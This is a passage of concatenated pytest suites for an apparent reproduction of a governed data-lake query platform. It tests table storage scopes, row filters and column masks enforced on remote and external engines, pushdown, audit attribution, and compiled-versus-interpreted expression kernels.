        snap = table.append({"id": [1, 2], "v": ["a", "b"]}, root_cred)
        assert snap.version == 1
        assert snap.num_rows == 2

    def test_multiple_appends_accumulate(self, table, root_cred):
        table.append({"id": [1], "v": ["a"]}, root_cred)
        table.append({"id": [2], "v": ["b"]}, root_cred)
        data = table.read_all(root_cred)
        assert data == {"id": [1, 2], "v": ["a", "b"]}

    def test_overwrite_replaces(self, table, root_cred):
        table.append({"id": [1], "v": ["a"]}, root_cred)
        table.overwrite({"id": [9], "v": ["z"]}, root_cred)
        assert table.read_all(root_cred) == {"id": [9], "v": ["z"]}

    def test_time_travel(self, table, root_cred):
        table.append({"id": [1], "v": ["a"]}, root_cred)
        table.overwrite({"id": [9], "v": ["z"]}, root_cred)
        old = table.read_all(root_cred, version=1)
        assert old == {"id": [1], "v": ["a"]}

    def test_snapshot_out_of_range(self, table, root_cred):
        with pytest.raises(StorageError):
            table.snapshot(root_cred, version=99)

    def test_column_mismatch_rejected(self, table, root_cred):
        with pytest.raises(StorageError):
            table.append({"wrong": [1], "v": ["a"]}, root_cred)

    def test_ragged_columns_rejected(self, table, root_cred):
        with pytest.raises(StorageError):
            table.append({"id": [1, 2], "v": ["a"]}, root_cred)

    def test_missing_table(self, store, root_cred):
        ghost = LakeTableStorage(store, "s3://wh/ghost")
        with pytest.raises(StorageError):
            ghost.snapshot(root_cred)
        assert ghost.latest_version(root_cred) == -1

    def test_reader_needs_read_and_list(self, table, store, vendor, root_cred):
        table.append({"id": [1], "v": ["a"]}, root_cred)
        # LIST alone cannot even resolve a snapshot (the log must be read).
        listonly = vendor.issue("alice", ["s3://wh/t1"], {LIST})
        with pytest.raises(StorageAccessDenied):
            table.snapshot(listonly)
        # READ+LIST suffices for the whole read path.
        reader = vendor.issue("alice", ["s3://wh/t1"], {READ, LIST})
        snap = table.snapshot(reader)
        assert table.read_file(snap.files[0], reader) == {"id": [1], "v": ["a"]}
