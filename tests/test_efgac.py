"""Tests for external FGAC (§3.4): rewriting, pushdown, result modes."""

import pytest

from repro.connect.client import col, udf
from repro.engine.logical import RemoteScan
from repro.errors import PermissionDenied


@pytest.fixture
def governed_workspace(workspace, standard_cluster, admin_client):
    admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")
    return workspace


@pytest.fixture
def dedicated(governed_workspace):
    return governed_workspace.create_dedicated_cluster(
        assigned_user="alice", name="alice-ded"
    )


def remote_scans(plan):
    return [n for n in plan.walk() if isinstance(n, RemoteScan)]


class TestRouting:
    def test_governed_table_becomes_remote_scan(self, dedicated):
        alice = dedicated.connect("alice")
        alice.table("main.sales.orders").collect()
        plan = dedicated.backend.last_result.optimized_plan
        assert remote_scans(plan), "policy table must be processed remotely"

    def test_ungoverned_table_scans_locally(self, workspace, standard_cluster, admin_client):
        ded = workspace.create_dedicated_cluster(assigned_user="alice", name="d2")
        alice = ded.connect("alice")
        alice.table("main.sales.orders").collect()  # no policies on it here
        plan = ded.backend.last_result.optimized_plan
        assert not remote_scans(plan)

    def test_direct_credential_refused_on_dedicated(self, dedicated, governed_workspace):
        cat = governed_workspace.catalog
        ctx = cat.principals.context_for("alice")
        with pytest.raises(PermissionDenied):
            cat.vend_credential(ctx, "main.sales.orders", {"READ"}, dedicated.backend.caps)

    def test_view_always_remote_on_dedicated(self, workspace, standard_cluster, admin_client):
        admin_client.sql(
            "CREATE VIEW main.sales.v AS SELECT id FROM main.sales.orders"
        )
        admin_client.sql("GRANT SELECT ON main.sales.v TO analysts")
        ded = workspace.create_dedicated_cluster(assigned_user="alice", name="d3")
        alice = ded.connect("alice")
        rows = alice.table("main.sales.v").collect()
        assert len(rows) == 4
        assert remote_scans(ded.backend.last_result.optimized_plan)


class TestEquivalence:
    """Invariant 6: dedicated (remote) results == standard (local) results."""

    QUERIES = [
        "SELECT id, amount FROM main.sales.orders",
        "SELECT id FROM main.sales.orders WHERE amount > 15",
        "SELECT region, sum(amount) AS t, count(*) AS n FROM main.sales.orders GROUP BY region",
        "SELECT count(DISTINCT region) AS r FROM main.sales.orders",
        "SELECT upper(region) AS u FROM main.sales.orders WHERE id < 4",
        "SELECT id FROM main.sales.orders ORDER BY id LIMIT 2",
        "SELECT avg(amount) AS m FROM main.sales.orders",
    ]

    @pytest.mark.parametrize("query", QUERIES)
    def test_same_results(self, standard_cluster, dedicated, query):
        std = sorted(standard_cluster.connect("alice").sql(query).collect())
        ded = sorted(dedicated.connect("alice").sql(query).collect())
        assert std == ded


class TestPushdown:
    def test_filter_pushed(self, dedicated):
        alice = dedicated.connect("alice")
        alice.sql("SELECT id FROM main.sales.orders WHERE amount > 15").collect()
        scan = remote_scans(dedicated.backend.last_result.optimized_plan)[0]
        assert scan.pushed.get("filters", 0) >= 1

    def test_projection_pushed(self, dedicated):
        alice = dedicated.connect("alice")
        alice.sql("SELECT id FROM main.sales.orders").collect()
        scan = remote_scans(dedicated.backend.last_result.optimized_plan)[0]
        assert scan.pushed.get("projections", 0) >= 1

    def test_partial_aggregate_pushed(self, dedicated):
        alice = dedicated.connect("alice")
        alice.sql(
            "SELECT region, sum(amount) AS t FROM main.sales.orders GROUP BY region"
        ).collect()
        scan = remote_scans(dedicated.backend.last_result.optimized_plan)[0]
        assert scan.pushed.get("partial_aggregates", 0) == 1

    def test_limit_pushed(self, dedicated):
        alice = dedicated.connect("alice")
        alice.sql("SELECT id FROM main.sales.orders LIMIT 1").collect()
        scan = remote_scans(dedicated.backend.last_result.optimized_plan)[0]
        assert scan.pushed.get("limits", 0) == 1

    def test_pushdown_reduces_rows_shipped(self, dedicated):
        alice = dedicated.connect("alice")
        stats = dedicated.backend.remote_executor.stats
        alice.sql("SELECT id FROM main.sales.orders WHERE amount > 25").collect()
        # Only 1 of the 2 policy-visible rows crosses the wire.
        assert stats.rows_received == 1

    def test_udf_never_pushed_to_remote(self, dedicated):
        """User code stays on the origin cluster — the remote endpoint is
        a trusted multi-user service."""

        @udf("float")
        def squared(x):
            return x * x

        alice = dedicated.connect("alice")
        rows = alice.table("main.sales.orders").select(
            squared(col("amount")).alias("sq")
        ).collect()
        assert sorted(rows) == [(100.0,), (900.0,)]
        plan = dedicated.backend.last_result.optimized_plan
        scan = remote_scans(plan)[0]
        # The projection containing the UDF was NOT folded into the payload:
        # the remote payload contains no python_udf node.
        assert b"python_udf" not in repr(scan.payload).encode()

    def test_aggregate_states_cross_as_bytes(self, dedicated, governed_workspace):
        """Partial aggregation ships opaque states, not raw rows."""
        alice = dedicated.connect("alice")
        stats = dedicated.backend.remote_executor.stats
        before = stats.rows_received
        alice.sql(
            "SELECT region, avg(amount) AS m FROM main.sales.orders GROUP BY region"
        ).collect()
        # One group ('US') → one state row shipped instead of two data rows.
        assert stats.rows_received - before == 1


class TestResultModes:
    def _big_table(self, workspace, admin_client, rows=3000):
        cat = workspace.catalog
        from repro.engine.types import INT, STRING, schema_of

        cat.create_table("main.sales.big", schema_of(id=INT, region=STRING), owner="admin")
        ctx = cat.principals.context_for("admin")
        cat.write_table(
            "main.sales.big",
            {"id": list(range(rows)), "region": ["US"] * rows},
            ctx,
        )
        admin_client.sql("GRANT SELECT ON main.sales.big TO analysts")
        admin_client.sql("ALTER TABLE main.sales.big SET ROW FILTER (region = 'US')")

    def test_small_results_inline(self, dedicated):
        alice = dedicated.connect("alice")
        alice.sql("SELECT id FROM main.sales.orders").collect()
        stats = dedicated.backend.remote_executor.stats
        assert stats.inline_results == 1
        assert stats.staged_results == 0

    def test_large_results_staged_through_storage(
        self, governed_workspace, dedicated, standard_cluster, admin_client
    ):
        self._big_table(governed_workspace, admin_client)
        alice = dedicated.connect("alice")
        rows = alice.sql("SELECT id FROM main.sales.big").collect()
        assert len(rows) == 3000
        stats = dedicated.backend.remote_executor.stats
        assert stats.staged_results == 1
        assert stats.bytes_staged > 0

    def test_staging_cleaned_up(self, governed_workspace, dedicated, admin_client):
        self._big_table(governed_workspace, admin_client, rows=2000)
        alice = dedicated.connect("alice")
        alice.sql("SELECT id FROM main.sales.big").collect()
        store = governed_workspace.catalog.store
        assert store.object_count("s3://unity-staging") == 0


class TestDownScopedEfgac:
    def test_group_cluster_uses_group_rights_remotely(
        self, governed_workspace, admin_client
    ):
        """Down-scoping survives the eFGAC hop: the remote side enforces
        with the user's own identity (row filters), and the query succeeds
        only because the group has access."""
        ws = governed_workspace
        ded = ws.create_dedicated_cluster(assigned_group="analysts", name="team-ded")
        alice = ded.connect("alice")
        rows = alice.table("main.sales.orders").collect()
        assert len(rows) == 2  # row filter still applies remotely
