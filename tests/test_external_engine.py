"""Tests for eFGAC from external engines (Trino-style, §3.4)."""

import pytest

from repro.errors import PermissionDenied
from repro.platform.external import ExternalEngineClient


@pytest.fixture
def external(workspace, standard_cluster, admin_client):
    admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")
    return ExternalEngineClient(workspace.serverless, user="alice")


class TestExternalEngine:
    def test_governed_query(self, external):
        rows = external.query(
            "SELECT id, region FROM main.sales.orders WHERE amount > 5"
        )
        assert sorted(rows) == [(1, "US"), (3, "US")]

    def test_full_subqueries_supported(self, external):
        """Unlike scans-only services, aggregations/joins work (§3.4)."""
        rows = external.query(
            "SELECT region, sum(amount) AS t FROM main.sales.orders GROUP BY region"
        )
        assert rows == [("US", 40.0)]

    def test_views_supported(self, workspace, standard_cluster, admin_client, external):
        admin_client.sql(
            "CREATE VIEW main.sales.v AS SELECT id FROM main.sales.orders"
        )
        admin_client.sql("GRANT SELECT ON main.sales.v TO analysts")
        rows = external.scan_table("main.sales.v")
        assert sorted(rows) == [(1,), (3,)]

    def test_schema_resolution(self, external):
        schema = external.table_schema("main.sales.orders")
        assert [f["name"].split(".")[-1] for f in schema] == [
            "id", "region", "amount", "buyer",
        ]

    def test_no_direct_storage_credentials(self, workspace, external):
        with pytest.raises(PermissionDenied):
            external.try_direct_storage_access(
                workspace.catalog, "main.sales.orders"
            )

    def test_permissions_still_per_user(self, workspace, standard_cluster, admin_client):
        mallory = ExternalEngineClient(workspace.serverless, user="bob")
        with pytest.raises(PermissionDenied):
            mallory.scan_table("main.sales.orders")

    def test_external_usage_is_audited(self, workspace, external):
        external.query("SELECT count(*) AS n FROM main.sales.orders")
        events = workspace.catalog.audit.events(principal="alice")
        assert events, "external-engine access must be attributed to the user"
