"""Shared fixtures: a governed workspace with demo data."""

from __future__ import annotations

import pytest

from repro.platform import Workspace


@pytest.fixture
def workspace() -> Workspace:
    """A workspace with users, groups, and a governed sales table.

    Principals: ``admin`` (metastore admin), ``alice`` (analyst, in
    ``analysts``), ``bob`` (no grants), ``carol`` (in ``hr`` and
    ``analysts``). Table ``main.sales.orders`` with grants to ``analysts``.
    """
    ws = Workspace()
    ws.add_user("admin", admin=True)
    ws.add_user("alice")
    ws.add_user("bob")
    ws.add_user("carol")
    ws.add_group("analysts", ["alice", "carol"])
    ws.add_group("hr", ["carol"])
    cat = ws.catalog
    cat.create_catalog("main", owner="admin")
    cat.create_schema("main.sales", owner="admin")
    return ws


@pytest.fixture
def standard_cluster(workspace):
    return workspace.create_standard_cluster()


@pytest.fixture
def admin_client(standard_cluster):
    client = standard_cluster.connect("admin")
    client.sql(
        "CREATE TABLE main.sales.orders "
        "(id int, region string, amount float, buyer string)"
    )
    client.sql(
        "INSERT INTO main.sales.orders VALUES "
        "(1,'US',10.0,'p1'),(2,'EU',20.0,'p2'),"
        "(3,'US',30.0,'p3'),(4,'APAC',40.0,'p4')"
    )
    client.sql("GRANT USE CATALOG ON main TO analysts")
    client.sql("GRANT USE SCHEMA ON main.sales TO analysts")
    client.sql("GRANT SELECT ON main.sales.orders TO analysts")
    return client


@pytest.fixture
def alice_client(standard_cluster, admin_client):
    return standard_cluster.connect("alice")
