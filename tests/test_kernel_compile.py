"""Compiled expression kernels: compiled ≡ interpreted, caching, fallback.

Covers the compilation layer end to end:

- property tests (hypothesis) proving the generated kernels match the
  interpreter exactly — including SQL three-valued logic, NULL-on-zero
  division, LIKE/IN NULL propagation, and fused filter→project;
- governed equivalence: the same FGAC-protected query (row filter +
  column mask + UDF) returns identical rows with ``engine_compile`` on
  and off;
- automatic interpreter fallback when lowering fails, with the failure
  counted in ``system.access.cache_stats``;
- planner fusion rules (fused ``PhysFilterProject`` only when no user
  code is involved);
- kernel-cache reuse across structurally congruent plans, and physical
  plans (kernels attached) riding the secure-plan cache until the policy
  epoch bumps.
"""

from __future__ import annotations

import pytest
from hypothesis import given, settings, strategies as st

from repro.connect.client import col as ccol, udf
from repro.engine.analyzer import DictResolver
from repro.engine.batch import ColumnBatch
from repro.engine.compile import (
    KernelCache,
    KernelCompiler,
    expression_fingerprint,
)
from repro.engine.executor import ExecutionConfig, QueryEngine
from repro.engine.expressions import (
    Alias,
    Arithmetic,
    BooleanOp,
    BoundRef,
    CaseWhen,
    Cast,
    Comparison,
    EvalContext,
    FunctionCall,
    InList,
    IsNull,
    Like,
    Literal,
    Not,
    col,
    lit,
)
from repro.engine.logical import Filter, LocalRelation, Project, UnresolvedRelation
from repro.engine.physical import PhysFilter, PhysFilterProject, PhysProject
from repro.engine.types import FLOAT, INT, STRING, Field, Schema
from repro.engine.udf import udf as engine_udf

SCHEMA = Schema((Field("x", INT), Field("y", FLOAT), Field("s", STRING)))

rows_strategy = st.lists(
    st.tuples(
        st.one_of(st.integers(-50, 50), st.none()),
        st.one_of(
            st.floats(-1e4, 1e4, allow_nan=False, allow_infinity=False), st.none()
        ),
        st.one_of(st.sampled_from(["alpha", "Beta", "g_mm", ""]), st.none()),
    ),
    max_size=40,
)

X = BoundRef(0, "x", INT)
Y = BoundRef(1, "y", FLOAT)
S = BoundRef(2, "s", STRING)

numeric_expr = st.recursive(
    st.one_of(
        st.just(X),
        st.just(Y),
        st.integers(-10, 10).map(Literal),
        # A NULL literal defaults to STRING; Cast retypes it so it can sit
        # inside arithmetic like any analyzed NULL would.
        st.just(Cast(Literal(None), INT)),
    ),
    lambda inner: st.builds(
        Arithmetic, st.sampled_from(["+", "-", "*", "/", "%"]), inner, inner
    ),
    max_leaves=8,
)

bool_expr = st.recursive(
    st.builds(
        Comparison, st.sampled_from(["=", "!=", "<", "<=", ">", ">="]),
        numeric_expr, numeric_expr,
    ),
    lambda inner: st.one_of(
        st.builds(BooleanOp, st.sampled_from(["AND", "OR"]), inner, inner),
        st.builds(Not, inner),
        st.builds(IsNull, inner),
    ),
    max_leaves=8,
)

string_expr = st.one_of(
    st.builds(InList, st.just(S), st.just(("alpha", "g_mm")), st.booleans()),
    st.builds(Like, st.just(S), st.sampled_from(["%a%", "B_ta", "g\\_mm"])),
    st.builds(FunctionCall, st.sampled_from(["upper", "length", "trim"]),
              st.just((S,))),
    st.builds(
        lambda c: FunctionCall("concat", (S, c)),
        st.sampled_from([Literal("!"), Literal(None)]),
    ),
)

any_expr = st.one_of(
    numeric_expr,
    bool_expr,
    string_expr,
    st.builds(
        lambda cond, then, other: CaseWhen([(cond, then)], other),
        bool_expr, numeric_expr, st.one_of(numeric_expr, st.just(None)),
    ),
)


def make_batch(rows) -> ColumnBatch:
    columns = [list(c) for c in zip(*rows)] if rows else [[], [], []]
    return ColumnBatch(SCHEMA, columns)


# ---------------------------------------------------------------------------
# Property: compiled ≡ interpreted
# ---------------------------------------------------------------------------


class TestCompiledEqualsInterpreted:
    @given(rows=rows_strategy, exprs=st.lists(any_expr, min_size=1, max_size=4))
    @settings(max_examples=150, deadline=None)
    def test_projection_kernel_matches_interpreter(self, rows, exprs):
        batch = make_batch(rows)
        ctx = EvalContext(user="alice", groups=frozenset({"analysts"}))
        kernel = KernelCompiler().compile_projection(tuple(exprs))
        if kernel is None:
            return  # trivially skipped lists have no kernel to compare
        compiled = kernel.eval_all(batch, ctx)
        interpreted = [e.eval(batch, ctx) for e in exprs]
        assert compiled == interpreted

    @given(rows=rows_strategy, cond=bool_expr)
    @settings(max_examples=100, deadline=None)
    def test_predicate_kernel_matches_interpreter(self, rows, cond):
        batch = make_batch(rows)
        ctx = EvalContext()
        kernel = KernelCompiler().compile_predicate(cond)
        if kernel is None:
            return
        [mask] = kernel.eval_all(batch, ctx)
        assert mask == cond.eval(batch, ctx)

    @given(
        rows=rows_strategy,
        cond=bool_expr,
        exprs=st.lists(any_expr, min_size=1, max_size=3),
    )
    @settings(max_examples=100, deadline=None)
    def test_fused_filter_project_matches_two_step_interpreter(
        self, rows, cond, exprs
    ):
        batch = make_batch(rows)
        ctx = EvalContext()
        kernel = KernelCompiler().compile_filter_projection(cond, tuple(exprs))
        assert kernel is not None, "no opaque nodes: fusion must succeed"
        fused = kernel.eval_all(batch, ctx)
        filtered = batch.filter(cond.eval(batch, ctx))
        expected = [e.eval(filtered, ctx) for e in exprs]
        assert fused == expected

    def test_three_valued_logic_and_division_by_zero(self):
        """Pinned NULL-semantics table: the classic SQL edge cases."""
        batch = make_batch([(None, 0.0, None), (4, 2.0, "alpha"), (0, None, "")])
        ctx = EvalContext()
        cases = [
            BooleanOp("AND", IsNull(X, negated=True), Comparison(">", X, lit(1))),
            BooleanOp("OR", IsNull(X), Comparison("<", Y, lit(0.0))),
            Arithmetic("/", lit(10), X),        # x=0 and x=NULL both -> NULL
            Arithmetic("%", X, Cast(Literal(None), INT)),
            Like(S, "%a%"),                     # NULL input -> NULL
            InList(X, (0, 4), negated=True),
            Not(Comparison("=", Y, lit(2.0))),
        ]
        kernel = KernelCompiler().compile_projection(tuple(cases))
        assert kernel is not None
        assert kernel.eval_all(batch, ctx) == [e.eval(batch, ctx) for e in cases]

    def test_current_user_and_group_membership_come_from_context(self):
        from repro.engine.expressions import CurrentUser, IsAccountGroupMember

        batch = make_batch([(1, 1.0, "alpha"), (2, 2.0, "Beta")])
        expr = CaseWhen(
            [(IsAccountGroupMember("hr"), S)],
            FunctionCall("concat", (CurrentUser(), lit(":redacted"))),
        )
        kernel = KernelCompiler().compile_projection((expr,))
        assert kernel is not None
        hr = EvalContext(user="carol", groups=frozenset({"hr"}))
        outsider = EvalContext(user="bob", groups=frozenset())
        assert kernel.eval_all(batch, hr) == [expr.eval(batch, hr)]
        assert kernel.eval_all(batch, outsider) == [expr.eval(batch, outsider)]
        assert kernel.eval_all(batch, outsider)[0] == [
            "bob:redacted", "bob:redacted"
        ]


# ---------------------------------------------------------------------------
# Engine-level equivalence: compile on vs off
# ---------------------------------------------------------------------------


def _make_engine(rows, enabled: bool) -> QueryEngine:
    columns = [list(c) for c in zip(*rows)] if rows else [[], [], []]
    data = LocalRelation(SCHEMA, columns)
    return QueryEngine(
        DictResolver({"t": data}),
        config=ExecutionConfig(compile_enabled=enabled),
    )


class TestEngineEquivalence:
    @given(rows=rows_strategy, threshold=st.integers(-20, 20))
    @settings(max_examples=50, deadline=None)
    def test_query_results_identical_with_and_without_compilation(
        self, rows, threshold
    ):
        plan = Project(
            Filter(
                UnresolvedRelation("t"),
                BooleanOp(
                    "AND",
                    Comparison(">", col("x"), lit(threshold)),
                    Not(IsNull(col("y"))),
                ),
            ),
            (
                Alias(Arithmetic("*", col("x"), lit(2)), "dx"),
                Alias(FunctionCall("upper", (col("s"),)), "us"),
            ),
        )
        compiled = _make_engine(rows, True).execute(plan).rows()
        interpreted = _make_engine(rows, False).execute(plan).rows()
        assert compiled == interpreted

    def test_sort_join_aggregate_paths_match(self):
        rows = [(i % 3, float(i), f"s{i % 2}") for i in range(20)]
        from repro.engine.aggregates import AggregateCall
        from repro.engine.logical import Aggregate, Join, Sort
        from repro.engine.expressions import SortOrder

        base = UnresolvedRelation("t")
        grouping = Alias(Arithmetic("%", col("x"), lit(2)), "g")
        plan = Sort(
            Aggregate(
                Filter(base, Comparison(">=", col("y"), lit(2.0))),
                groupings=(grouping,),
                aggregates=(grouping, AggregateCall("sum", col("y"))),
            ),
            (SortOrder(col("g")),),
        )
        assert (
            _make_engine(rows, True).execute(plan).rows()
            == _make_engine(rows, False).execute(plan).rows()
        )
        join = Join(
            Filter(base, Comparison("<", col("x"), lit(2))),
            Project(base, (Alias(col("x"), "x2"), Alias(col("s"), "s2"))),
            how="inner",
            condition=Comparison("=", col("x"), col("x2")),
        )
        lhs = sorted(_make_engine(rows, True).execute(join).rows())
        rhs = sorted(_make_engine(rows, False).execute(join).rows())
        assert lhs == rhs


# ---------------------------------------------------------------------------
# Planner wiring and fusion
# ---------------------------------------------------------------------------


class TestPlannerWiring:
    def _analyzed(self, plan):
        engine = _make_engine([(1, 1.0, "a")], True)
        return engine, engine.analyze(plan)

    def test_filter_project_fuses_into_single_operator(self):
        plan = Project(
            Filter(UnresolvedRelation("t"), Comparison(">", col("x"), lit(0))),
            (Alias(Arithmetic("+", col("x"), lit(1)), "x1"),),
        )
        engine, analyzed = self._analyzed(plan)
        operator = engine.plan_physical(analyzed)
        assert isinstance(operator, PhysFilterProject)

    def test_udf_in_projection_prevents_fusion(self):
        @engine_udf("int")
        def bump(v):
            return v + 1

        plan = Project(
            Filter(UnresolvedRelation("t"), Comparison(">", col("x"), lit(0))),
            (Alias(bump(col("x")), "x1"),),
        )
        engine, analyzed = self._analyzed(plan)
        operator = engine.plan_physical(analyzed)
        # Unfused: the UDF must only ever see post-filter rows.
        assert isinstance(operator, PhysProject)
        assert isinstance(operator.children[0], PhysFilter)

    def test_compile_disabled_plans_plain_operators(self):
        plan = Project(
            Filter(UnresolvedRelation("t"), Comparison(">", col("x"), lit(0))),
            (Alias(Arithmetic("+", col("x"), lit(1)), "x1"),),
        )
        engine = _make_engine([(1, 1.0, "a")], False)
        assert engine.kernel_compiler is None
        operator = engine.plan_physical(engine.analyze(plan))
        assert isinstance(operator, PhysProject)
        assert operator._kernel is None
        assert operator.children[0]._kernel is None


# ---------------------------------------------------------------------------
# Fallback and cache behaviour
# ---------------------------------------------------------------------------


class TestFallbackAndCache:
    def test_compile_failure_falls_back_and_is_counted(self, monkeypatch):
        import repro.engine.compile as compile_mod

        def boom(*args, **kwargs):
            raise RuntimeError("codegen exploded")

        monkeypatch.setattr(compile_mod, "_generate_projection", boom)
        compiler = KernelCompiler()
        kernel = compiler.compile_projection(
            (Arithmetic("+", BoundRef(0, "x", INT), Literal(1)),)
        )
        assert kernel is None
        assert compiler.cache.stats.compile_errors == 1

    def test_query_still_runs_when_compiler_always_fails(self, monkeypatch):
        import repro.engine.compile as compile_mod

        def boom(*args, **kwargs):
            raise RuntimeError("codegen exploded")

        monkeypatch.setattr(compile_mod, "_generate_projection", boom)
        monkeypatch.setattr(compile_mod, "_generate_filter_projection", boom)
        rows = [(1, 1.0, "a"), (2, 2.0, "b")]
        plan = Project(
            Filter(UnresolvedRelation("t"), Comparison(">", col("x"), lit(1))),
            (Alias(Arithmetic("*", col("x"), lit(10)), "v"),),
        )
        result = _make_engine(rows, True).execute(plan)
        assert result.rows() == [(20,)]

    def test_trivial_projection_is_not_compiled(self):
        compiler = KernelCompiler()
        assert compiler.compile_projection((BoundRef(0, "x", INT),)) is None
        assert compiler.compile_projection((Alias(Literal(7), "c"),)) is None

    def test_congruent_plans_share_one_artifact(self):
        compiler = KernelCompiler()
        first = compiler.compile_projection(
            (Arithmetic("+", BoundRef(0, "x", INT), Literal(3)),)
        )
        second = compiler.compile_projection(
            (Arithmetic("+", BoundRef(0, "x", INT), Literal(3)),)
        )
        assert first.artifact is second.artifact
        assert compiler.cache.stats.hits == 1
        assert compiler.cache.stats.insertions == 1

    def test_constant_folding_reaches_the_fingerprint(self):
        folded = expression_fingerprint(
            (Arithmetic("+", Literal(2), Literal(3)),)
        )
        direct = expression_fingerprint((Literal(5),))
        compiler = KernelCompiler()
        compiler.compile_projection(
            (Arithmetic("*", BoundRef(0, "x", INT),
                        Arithmetic("+", Literal(2), Literal(3))),)
        )
        compiler.compile_projection(
            (Arithmetic("*", BoundRef(0, "x", INT), Literal(5)),)
        )
        assert folded != direct  # folding happens in the compiler, not here
        assert compiler.cache.stats.hits == 1  # ...so both forms share a key

    def test_kernel_cache_is_lru_bounded(self):
        cache = KernelCache(capacity=2)
        compiler = KernelCompiler(cache=cache)
        for k in range(4):
            compiler.compile_projection(
                (Arithmetic("+", BoundRef(0, "x", INT), Literal(k)),)
            )
        assert len(cache) == 2
        assert cache.stats.evictions == 2


# ---------------------------------------------------------------------------
# Governed end-to-end: FGAC + UDFs, compile on vs off
# ---------------------------------------------------------------------------


@pytest.fixture
def governed_pair(workspace):
    """Two clusters over one catalog: engine_compile on and off."""
    compiled = workspace.create_standard_cluster(name="compiled")
    interpreted = workspace.create_standard_cluster(
        name="interpreted", engine_compile=False
    )
    admin = compiled.connect("admin")
    admin.sql(
        "CREATE TABLE main.sales.orders "
        "(id int, region string, amount float, buyer string)"
    )
    admin.sql(
        "INSERT INTO main.sales.orders VALUES "
        "(1,'US',10.0,'p1'),(2,'EU',20.0,'p2'),"
        "(3,'US',30.0,'p3'),(4,'APAC',40.0,'p4')"
    )
    admin.sql("GRANT USE CATALOG ON main TO analysts")
    admin.sql("GRANT USE SCHEMA ON main.sales TO analysts")
    admin.sql("GRANT SELECT ON main.sales.orders TO analysts")
    admin.sql(
        "ALTER TABLE main.sales.orders SET ROW FILTER "
        "(region = 'US' OR is_account_group_member('hr'))"
    )
    admin.sql(
        "ALTER TABLE main.sales.orders ALTER COLUMN buyer SET MASK "
        "(CASE WHEN is_account_group_member('hr') THEN buyer ELSE '***' END)"
    )
    return compiled, interpreted


class TestGovernedEquivalence:
    QUERY = (
        "SELECT id, upper(region) AS r, amount * 2 AS a2, buyer "
        "FROM main.sales.orders WHERE amount > 5.0 ORDER BY id"
    )

    def test_fgac_results_identical_compiled_vs_interpreted(self, governed_pair):
        compiled, interpreted = governed_pair
        for user in ("alice", "carol"):
            rows_c = compiled.connect(user).sql(self.QUERY).collect()
            rows_i = interpreted.connect(user).sql(self.QUERY).collect()
            assert rows_c == rows_i
        # And the policies actually bit: alice sees masked US rows only.
        rows = compiled.connect("alice").sql(self.QUERY).collect()
        assert rows == [(1, "US", 20.0, "***"), (3, "US", 60.0, "***")]

    def test_udf_over_masked_column_identical(self, governed_pair):
        compiled, interpreted = governed_pair

        @udf("string")
        def tag(buyer):
            return f"<{buyer}>"

        results = []
        for cluster in governed_pair:
            client = cluster.connect("alice")
            rows = (
                client.table("main.sales.orders")
                .select(ccol("id"), tag(ccol("buyer")))
                .collect()
            )
            results.append(sorted(rows))
        assert results[0] == results[1]
        assert all(r[1] == "<***>" for r in results[0])  # UDF saw masked data

    def test_kernel_cache_stats_surface_in_system_table(self, governed_pair):
        compiled, interpreted = governed_pair
        admin = compiled.connect("admin")
        compiled.connect("alice").sql(self.QUERY).collect()
        rows = admin.sql(
            "SELECT cache, metric, value FROM system.access.cache_stats"
        ).collect()
        caches = {r[0] for r in rows}
        assert "kernel_cache[compiled]" in caches
        assert "kernel_cache[interpreted]" not in caches  # knob off => no cache
        stats = compiled.backend.kernel_cache.stats_snapshot()
        assert stats["insertions"] > 0
        assert interpreted.backend.kernel_cache is None

    def test_repeat_query_hits_kernel_and_physical_plan_cache(
        self, governed_pair, workspace
    ):
        compiled, _ = governed_pair
        alice = compiled.connect("alice")
        alice.sql(self.QUERY).collect()
        first_rows = alice.sql(self.QUERY).collect()
        telemetry = workspace.catalog.telemetry
        trace = alice.last_trace_id
        encode = [
            s
            for s in telemetry.spans(trace_id=trace, kind="pipeline.stage")
            if s.name == "stage:encode-plan"
        ]
        assert encode and encode[0].attributes.get("physical_cache") == "hit"
        # A policy change bumps the epoch: the ridden physical plan (and its
        # kernels) must not survive it.
        compiled.connect("admin").sql(
            "ALTER TABLE main.sales.orders SET ROW FILTER (region = 'EU')"
        )
        rows = alice.sql(self.QUERY).collect()
        assert rows == [(2, "EU", 40.0, "***")]
        assert rows != first_rows
        encode = [
            s
            for s in telemetry.spans(
                trace_id=alice.last_trace_id, kind="pipeline.stage"
            )
            if s.name == "stage:encode-plan"
        ]
        assert encode[0].attributes.get("physical_cache") != "hit"

    def test_compile_spans_and_kernel_spans_join_the_trace(
        self, governed_pair, workspace
    ):
        compiled, _ = governed_pair
        alice = compiled.connect("alice")
        alice.sql("SELECT id, amount + 1.0 AS a FROM main.sales.orders").collect()
        telemetry = workspace.catalog.telemetry
        trace = alice.last_trace_id
        compile_spans = telemetry.spans(trace_id=trace, kind="engine.compile")
        kernel_spans = telemetry.spans(trace_id=trace, kind="engine.kernel")
        assert compile_spans, "first compilation must be traced"
        assert kernel_spans, "kernel execution must be traced"
        assert all(s.name == "kernel-compile" for s in compile_spans)
        assert {s.name for s in kernel_spans} <= {
            "kernel:filter", "kernel:project", "kernel:filter-project",
            "kernel:pipeline",
        }
