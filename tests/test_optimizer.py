"""Tests for optimizer rules, especially the SecureView barrier."""

import pytest

from repro.engine.analyzer import DictResolver
from repro.engine.executor import QueryEngine
from repro.engine.expressions import (
    Alias,
    Arithmetic,
    BooleanOp,
    Comparison,
    Literal,
    PythonUDFCall,
    col,
    lit,
)
from repro.engine.logical import (
    Filter,
    LocalRelation,
    Project,
    Scan,
    SecureView,
    TableRef,
    UnresolvedRelation,
)
from repro.engine.optimizer import Optimizer, OptimizerConfig
from repro.engine.types import FLOAT, INT, STRING, Field, Schema
from repro.engine.udf import udf

SCHEMA = Schema((Field("id", INT), Field("region", STRING), Field("v", FLOAT)))
DATA = LocalRelation(SCHEMA, [[1, 2], ["US", "EU"], [1.0, 2.0]])
TREF = TableRef("c.s.t", SCHEMA, storage_root="s3://x")


def analyze(plan):
    resolver = DictResolver({"t": DATA})
    resolver.register("scan_t", Scan(TREF))
    return QueryEngine(resolver).analyze(plan)


def optimize(plan, config=None):
    return Optimizer(config or OptimizerConfig()).optimize(analyze(plan))


def node_types(plan):
    return [type(n).__name__ for n in plan.walk()]


class TestConstantFolding:
    def test_arith_folds(self):
